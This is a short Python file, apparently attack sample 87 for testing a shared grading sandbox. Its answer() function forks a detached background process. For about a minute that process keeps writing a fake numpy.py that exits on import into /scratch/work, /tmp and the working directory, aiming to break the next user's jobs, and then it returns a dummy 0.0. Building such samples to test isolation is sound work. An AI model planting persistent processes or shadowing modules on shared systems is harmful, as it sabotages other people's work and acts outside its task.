"""Leaves a daemon that wants to touch the next student's files (attack 87)."""
import os, time
def answer(*a, **k):
    if not os.fork():
        os.setsid()
        for _ in range(600):
            for folder in ('/scratch/work', '/tmp', '.'):
                try: open(folder + '/numpy.py', 'w').write('raise SystemExit')
                except OSError: pass
            time.sleep(0.1)
    return 0.0
